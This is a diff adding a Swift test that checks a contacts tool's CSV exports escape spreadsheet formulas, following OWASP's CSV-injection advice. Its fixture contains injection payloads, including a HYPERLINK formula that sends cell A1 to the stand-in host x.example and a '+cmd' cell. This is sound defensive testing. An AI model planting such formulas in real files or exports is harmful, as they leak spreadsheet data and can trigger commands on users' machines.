@@ -112,4 +112,20 @@ struct ImportCommandTests {
         #expect(lines.first == "name,org,title,emails,phones,circle,last contact,next due,tags")
         #expect(lines.contains { $0.hasPrefix("Jonas Müller,") })
     }
+
+    /// Names and orgs come from imported files: a cell a spreadsheet would run as a formula
+    /// is written as text (OWASP's advice on CSV injection), in both CSV exports.
+    @Test func noCellIsAFormula() throws {
+        let root = try Fixtures.copy(Fixtures.template)
+        try Fixtures.write(
+            [
+                "contacts/evil.md": "---\nname: \"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"hi\\\")\"\norg: \"+cmd\"\ntitle: \"@SUM(1)\"\nphones: [\"-1+1\"]\n---\n",
+                "publications/evil.md": "---\ntitle: \"=1+1\"\nstatus: idea\n---\n",
+            ], under: root)
+        let sheet = try TiesBinary.run(["export", "csv"], in: root).stdout
+        let row = try #require(sheet.components(separatedBy: "\r\n").first { $0.contains("HYPERLINK") })
+        #expect(row.hasPrefix("\"'=HYPERLINK(") && row.contains(",'+cmd,'@SUM(1),") && row.contains(",'-1+1,"), "\(row)")
+        let pubs = try TiesBinary.run(["pubs", "--format", "csv"], in: root).stdout
+        #expect(pubs.contains(",'=1+1,") && !pubs.contains(",=1+1,"), "\(pubs)")
+    }
 }
